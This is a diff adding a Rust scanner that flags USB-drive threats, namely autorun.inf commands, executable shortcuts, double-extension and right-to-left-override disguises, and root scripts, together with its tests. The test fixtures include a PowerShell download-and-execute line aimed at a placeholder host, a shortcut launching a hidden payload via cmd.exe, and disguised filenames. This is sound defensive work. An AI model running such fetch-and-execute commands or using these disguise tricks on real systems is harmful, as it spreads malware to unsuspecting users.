@@ -0,0 +1,449 @@
+use std::fs::{self, File};
+use std::io::{self, Read};
+use std::path::Path;
+use serde::Serialize;
+
+// Bounds so a huge or deeply nested drive can't stall the scan
+const MAX_DEPTH: usize = 8;
+const MAX_FILES: usize = 50_000;
+// autorun.inf and .lnk files are tiny; anything bigger is read only this far
+const MAX_READ: u64 = 64 * 1024;
+
+const EXECUTABLE_EXTENSIONS: [&str; 8] = ["exe", "scr", "com", "pif", "cpl", "msi", "jar", "dll"];
+const SCRIPT_EXTENSIONS: [&str; 11] = ["bat", "cmd", "ps1", "vbs", "vbe", "js", "jse", "wsf", "wsh", "hta", "sh"];
+// Extensions a payload pretends to have in front of its real one
+const DECOY_EXTENSIONS: [&str; 18] = [
+    "pdf", "doc", "docx", "xls", "xlsx", "ppt", "pptx", "txt", "rtf", "jpg", "jpeg", "png", "gif", "mp3",
+    "mp4", "avi", "zip", "rar",
+];
+// U+202E makes "invoice_fdp.exe" render as "invoice_exe.pdf"
+const RIGHT_TO_LEFT_OVERRIDE: char = '\u{202E}';
+
+const LNK_HEADER_SIZE: usize = 0x4C;
+const LNK_CLSID: [u8; 16] = [
+    0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum MediaFindingKind {
+    /// `autorun.inf` at the root of the volume
+    Autorun,
+    /// Shortcut whose target is an executable or script
+    ExecutableShortcut,
+    /// Executable disguised with a document extension (`invoice.pdf.exe`)
+    DoubleExtension,
+    /// Script file at the root of the volume
+    RootScript,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum FindingSeverity {
+    Medium,
+    High,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct MediaFinding {
+    pub kind: MediaFindingKind,
+    pub severity: FindingSeverity,
+    pub path: String,
+    pub detail: String,
+}
+
+/// Result of scanning a mounted volume or folder
+#[derive(Debug, Clone, Serialize)]
+pub struct MediaScanReport {
+    pub root: String,
+    pub files_scanned: usize,
+    /// True when the file or depth limit stopped the scan early
+    pub truncated: bool,
+    pub findings: Vec<MediaFinding>,
+}
+
+impl MediaScanReport {
+    pub fn has_high_severity(&self) -> bool {
+        self.findings.iter().any(|f| f.severity == FindingSeverity::High)
+    }
+}
+
+fn extension(name: &str) -> Option<String> {
+    name.rsplit_once('.').map(|(_, ext)| ext.to_lowercase())
+}
+
+fn is_executable(name: &str) -> bool {
+    extension(name).is_some_and(|ext| {
+        EXECUTABLE_EXTENSIONS.contains(&ext.as_str()) || SCRIPT_EXTENSIONS.contains(&ext.as_str())
+    })
+}
+
+fn read_head(path: &Path) -> io::Result<Vec<u8>> {
+    let mut buf = Vec::new();
+    File::open(path)?.take(MAX_READ).read_to_end(&mut buf)?;
+    Ok(buf)
+}
+
+/// Flags `invoice.pdf.exe` and names that hide their extension with a right-to-left override
+fn disguised_extension(name: &str) -> Option<String> {
+    if name.contains(RIGHT_TO_LEFT_OVERRIDE) {
+        return Some("Name contains a right-to-left override character".to_string());
+    }
+    let lower = name.to_lowercase();
+    let mut parts = lower.rsplit('.');
+    let last = parts.next()?;
+    let decoy = parts.next()?;
+    // Need a real stem in front of the decoy (".pdf.exe" alone has none)
+    parts.next().filter(|stem| !stem.is_empty())?;
+    (is_executable(name) && DECOY_EXTENSIONS.contains(&decoy))
+        .then(|| format!("Executable .{} disguised as .{}", last, decoy))
+}
+
+/// Commands an `autorun.inf` would run (`open=`, `shellexecute=`, `shell\verb\command=`)
+pub fn autorun_commands(content: &str) -> Vec<String> {
+    content
+        .lines()
+        .filter_map(|line| line.split_once('='))
+        .filter(|(key, _)| {
+            let key = key.trim().to_lowercase();
+            key == "open" || key == "shellexecute" || (key.starts_with("shell\\") && key.ends_with("\\command"))
+        })
+        .map(|(_, value)| value.trim().to_string())
+        .filter(|value| !value.is_empty())
+        .collect()
+}
+
+fn u16_le(buf: &[u8], offset: usize) -> Option<u16> {
+    Some(u16::from_le_bytes(buf.get(offset..offset + 2)?.try_into().ok()?))
+}
+
+fn u32_le(buf: &[u8], offset: usize) -> Option<u32> {
+    Some(u32::from_le_bytes(buf.get(offset..offset + 4)?.try_into().ok()?))
+}
+
+fn c_string(buf: &[u8], offset: usize) -> Option<String> {
+    let bytes = buf.get(offset..)?;
+    let end = bytes.iter().position(|&b| b == 0)?;
+    Some(String::from_utf8_lossy(&bytes[..end]).to_string())
+}
+
+fn c_wide_string(buf: &[u8], offset: usize) -> Option<String> {
+    let units: Vec<u16> = buf
+        .get(offset..)?
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .take_while(|&c| c != 0)
+        .collect();
+    Some(String::from_utf16_lossy(&units))
+}
+
+/// Target path and arguments of a Windows shell link (`.lnk`), per MS-SHLLINK
+pub fn shortcut_target(data: &[u8]) -> Option<(String, Option<String>)> {
+    if u32_le(data, 0)? as usize != LNK_HEADER_SIZE || data.get(4..20)? != LNK_CLSID {
+        return None;
+    }
+    let flags = u32_le(data, 0x14)?;
+    let unicode = flags & 0x80 != 0;
+    let mut offset = LNK_HEADER_SIZE;
+
+    if flags & 0x01 != 0 {
+        offset += 2 + u16_le(data, offset)? as usize;
+    }
+
+    let mut target = None;
+    if flags & 0x02 != 0 {
+        let info = data.get(offset..)?;
+        let info_size = u32_le(info, 0)? as usize;
+        let header_size = u32_le(info, 4)?;
+        if u32_le(info, 8)? & 0x01 != 0 {
+            let (base, suffix) = if header_size >= 0x24 {
+                (c_wide_string(info, u32_le(info, 28)? as usize), c_wide_string(info, u32_le(info, 32)? as usize))
+            } else {
+                (c_string(info, u32_le(info, 16)? as usize), c_string(info, u32_le(info, 24)? as usize))
+            };
+            target = base.map(|b| b + suffix.as_deref().unwrap_or(""));
+        }
+        offset += info_size;
+    }
+
+    // StringData: name, relative path, working dir, arguments, icon location
+    let mut strings: [Option<String>; 5] = Default::default();
+    for (bit, slot) in strings.iter_mut().enumerate() {
+        if flags & (0x04 << bit) == 0 {
+            continue;
+        }
+        let count = u16_le(data, offset)? as usize;
+        offset += 2;
+        let len = if unicode { count * 2 } else { count };
+        let bytes = data.get(offset..offset + len)?;
+        *slot = Some(if unicode {
+            let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+            String::from_utf16_lossy(&units)
+        } else {
+            String::from_utf8_lossy(bytes).to_string()
+        });
+        offset += len;
+    }
+    let [_, relative_path, _, arguments, _] = strings;
+
+    let target = target.filter(|t| !t.is_empty()).or(relative_path)?;
+    Some((target, arguments.filter(|a| !a.is_empty())))
+}
+
+fn check_file(path: &Path, name: &str, at_root: bool, findings: &mut Vec<MediaFinding>) {
+    let display = path.to_string_lossy().to_string();
+    let lower = name.to_lowercase();
+
+    if at_root && lower == "autorun.inf" {
+        let content = read_head(path).map(|b| String::from_utf8_lossy(&b).to_string()).unwrap_or_default();
+        let commands = autorun_commands(&content);
+        let (severity, detail) = if commands.is_empty() {
+            (FindingSeverity::Medium, "autorun.inf present".to_string())
+        } else {
+            (FindingSeverity::High, format!("autorun.inf runs {}", commands.join(", ")))
+        };
+        findings.push(MediaFinding { kind: MediaFindingKind::Autorun, severity, path: display, detail });
+        return;
+    }
+
+    if extension(&lower).as_deref() == Some("lnk") {
+        if let Some((target, arguments)) = read_head(path).ok().and_then(|data| shortcut_target(&data)) {
+            if is_executable(&target) {
+                let detail = match arguments {
+                    Some(args) => format!("Shortcut runs {} {}", target, args),
+                    None => format!("Shortcut runs {}", target),
+                };
+                findings.push(MediaFinding {
+                    kind: MediaFindingKind::ExecutableShortcut,
+                    severity: FindingSeverity::High,
+                    path: display,
+                    detail,
+                });
+            }
+        }
+        return;
+    }
+
+    if let Some(detail) = disguised_extension(name) {
+        findings.push(MediaFinding {
+            kind: MediaFindingKind::DoubleExtension,
+            severity: FindingSeverity::High,
+            path: display,
+            detail,
+        });
+        return;
+    }
+
+    if at_root && extension(&lower).is_some_and(|ext| SCRIPT_EXTENSIONS.contains(&ext.as_str())) {
+        findings.push(MediaFinding {
+            kind: MediaFindingKind::RootScript,
+            severity: FindingSeverity::Medium,
+            path: display,
+            detail: format!("Script {} at the root of the drive", name),
+        });
+    }
+}
+
+/// Scans a mounted volume (or any folder) for autorun files, executable shortcuts,
+/// disguised executables and root-level scripts. Symlinks are not followed.
+pub fn scan(root: &Path) -> io::Result<MediaScanReport> {
+    if !fs::metadata(root)?.is_dir() {
+        return Err(io::Error::new(io::ErrorKind::InvalidInput, format!("{} is not a directory", root.display())));
+    }
+
+    let mut report = MediaScanReport {
+        root: root.to_string_lossy().to_string(),
+        files_scanned: 0,
+        truncated: false,
+        findings: Vec::new(),
+    };
+    let mut pending = vec![(root.to_path_buf(), 0usize)];
+
+    while let Some((dir, depth)) = pending.pop() {
+        // Unreadable folders (e.g. System Volume Information) are skipped
+        let Ok(entries) = fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let Ok(file_type) = entry.file_type() else {
+                continue;
+            };
+            if file_type.is_dir() {
+                if depth + 1 < MAX_DEPTH {
+                    pending.push((entry.path(), depth + 1));
+                } else {
+                    report.truncated = true;
+                }
+                continue;
+            }
+            if !file_type.is_file() {
+                continue;
+            }
+            if report.files_scanned >= MAX_FILES {
+                report.truncated = true;
+                return Ok(report);
+            }
+
+            report.files_scanned += 1;
+            let name = entry.file_name().to_string_lossy().to_string();
+            check_file(&entry.path(), &name, depth == 0, &mut report.findings);
+        }
+    }
+
+    report.findings.sort_by(|a, b| b.severity.cmp(&a.severity).then_with(|| a.path.cmp(&b.path)));
+    Ok(report)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn write(root: &Path, relative: &str, content: &[u8]) {
+        let path = root.join(relative);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, content).unwrap();
+    }
+
+    fn header(flags: u32) -> Vec<u8> {
+        let mut data = vec![0u8; LNK_HEADER_SIZE];
+        data[0..4].copy_from_slice(&(LNK_HEADER_SIZE as u32).to_le_bytes());
+        data[4..20].copy_from_slice(&LNK_CLSID);
+        data[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
+        data
+    }
+
+    /// A shortcut with a LinkInfo local path (ANSI) and command-line arguments
+    fn local_shortcut(target: &str, arguments: &str) -> Vec<u8> {
+        let mut data = header(0x02 | 0x20);
+        let strings = format!("{}\0\0", target);
+        let info_size = 0x1C + strings.len() as u32;
+        for value in [info_size, 0x1C, 0x01, 0, 0x1C, 0, 0x1C + target.len() as u32 + 1] {
+            data.extend_from_slice(&value.to_le_bytes());
+        }
+        data.extend_from_slice(strings.as_bytes());
+        data.extend_from_slice(&(arguments.len() as u16).to_le_bytes());
+        data.extend_from_slice(arguments.as_bytes());
+        data
+    }
+
+    /// A Unicode shortcut that only records a relative path
+    fn relative_shortcut(target: &str) -> Vec<u8> {
+        let mut data = header(0x08 | 0x80);
+        let units: Vec<u16> = target.encode_utf16().collect();
+        data.extend_from_slice(&(units.len() as u16).to_le_bytes());
+        for unit in units {
+            data.extend_from_slice(&unit.to_le_bytes());
+        }
+        data
+    }
+
+    fn kinds(report: &MediaScanReport) -> Vec<(MediaFindingKind, FindingSeverity, String)> {
+        let root = Path::new(&report.root);
+        report.findings.iter().map(|f| {
+            let relative = Path::new(&f.path).strip_prefix(root).unwrap();
+            (f.kind, f.severity, relative.to_string_lossy().replace('\\', "/"))
+        }).collect()
+    }
+
+    #[test]
+    fn autorun_with_commands_is_high_severity() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "AUTORUN.INF", b"[autorun]\r\nicon=drive.ico\r\nopen=setup.exe /s\r\nshell\\install\\command=run.bat\r\n");
+        // Only the root autorun.inf is honoured by Windows
+        write(drive.path(), "backup/autorun.inf", b"[autorun]\r\nopen=x.exe\r\n");
+
+        let report = scan(drive.path()).unwrap();
+        assert_eq!(report.files_scanned, 2);
+        assert_eq!(kinds(&report), vec![(MediaFindingKind::Autorun, FindingSeverity::High, "AUTORUN.INF".to_string())]);
+        assert_eq!(report.findings[0].detail, "autorun.inf runs setup.exe /s, run.bat");
+        assert!(report.has_high_severity());
+    }
+
+    #[test]
+    fn autorun_without_commands_is_medium_severity() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "autorun.inf", b"[autorun]\nlabel=Photos\nicon=photos.ico\n");
+
+        let report = scan(drive.path()).unwrap();
+        assert_eq!(kinds(&report), vec![(MediaFindingKind::Autorun, FindingSeverity::Medium, "autorun.inf".to_string())]);
+        assert!(!report.has_high_severity());
+    }
+
+    #[test]
+    fn shortcut_to_an_executable_is_flagged() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "Photos.lnk", &local_shortcut("C:\\Windows\\System32\\cmd.exe", "/c start .\\.hidden\\payload.exe"));
+        write(drive.path(), "docs/Report.lnk", &relative_shortcut("..\\files\\run.vbs"));
+        write(drive.path(), "Manual.lnk", &relative_shortcut(".\\manual.pdf"));
+        write(drive.path(), "Broken.lnk", b"not a shortcut");
+
+        let report = scan(drive.path()).unwrap();
+        assert_eq!(kinds(&report), vec![
+            (MediaFindingKind::ExecutableShortcut, FindingSeverity::High, "Photos.lnk".to_string()),
+            (MediaFindingKind::ExecutableShortcut, FindingSeverity::High, "docs/Report.lnk".to_string()),
+        ]);
+        assert_eq!(report.findings[0].detail, "Shortcut runs C:\\Windows\\System32\\cmd.exe /c start .\\.hidden\\payload.exe");
+        assert_eq!(report.findings[1].detail, "Shortcut runs ..\\files\\run.vbs");
+    }
+
+    #[test]
+    fn disguised_executables_are_flagged_anywhere() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "invoices/2024/Invoice.PDF.exe", b"MZ");
+        write(drive.path(), "Photo_\u{202E}gpj.scr", b"MZ");
+        write(drive.path(), ".pdf.exe", b"MZ");
+        write(drive.path(), "archive.tar.gz", b"");
+        write(drive.path(), "setup.exe", b"MZ");
+
+        let report = scan(drive.path()).unwrap();
+        assert_eq!(kinds(&report), vec![
+            (MediaFindingKind::DoubleExtension, FindingSeverity::High, "Photo_\u{202E}gpj.scr".to_string()),
+            (MediaFindingKind::DoubleExtension, FindingSeverity::High, "invoices/2024/Invoice.PDF.exe".to_string()),
+        ]);
+        assert_eq!(report.findings[1].detail, "Executable .exe disguised as .pdf");
+    }
+
+    #[test]
+    fn scripts_are_flagged_only_at_the_root() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "install.ps1", b"iwr http://example.invalid | iex");
+        write(drive.path(), "tools/build.sh", b"#!/bin/sh");
+        write(drive.path(), "readme.txt", b"hello");
+
+        let report = scan(drive.path()).unwrap();
+        assert_eq!(report.files_scanned, 3);
+        assert_eq!(kinds(&report), vec![(MediaFindingKind::RootScript, FindingSeverity::Medium, "install.ps1".to_string())]);
+    }
+
+    #[test]
+    fn findings_are_sorted_by_severity() {
+        let drive = TempDir::new().unwrap();
+        write(drive.path(), "a.bat", b"");
+        write(drive.path(), "autorun.inf", b"open=a.bat");
+        write(drive.path(), "z.doc.exe", b"MZ");
+
+        let report = scan(drive.path()).unwrap();
+        let found: Vec<_> = kinds(&report).into_iter().map(|(kind, severity, _)| (kind, severity)).collect();
+        assert_eq!(found, vec![
+            (MediaFindingKind::Autorun, FindingSeverity::High),
+            (MediaFindingKind::DoubleExtension, FindingSeverity::High),
+            (MediaFindingKind::RootScript, FindingSeverity::Medium),
+        ]);
+    }
+
+    #[test]
+    fn deep_folders_are_truncated_and_files_are_not_roots() {
+        let drive = TempDir::new().unwrap();
+        let deep: String = (0..MAX_DEPTH).map(|i| format!("d{}/", i)).collect();
+        write(drive.path(), &format!("{}payload.doc.exe", deep), b"MZ");
+
+        let report = scan(drive.path()).unwrap();
+        assert!(report.truncated);
+        assert!(report.findings.is_empty());
+
+        let file = drive.path().join("d0/d1/file.txt");
+        fs::write(&file, b"").unwrap();
+        assert_eq!(scan(&file).unwrap_err().kind(), io::ErrorKind::InvalidInput);
+    }
+}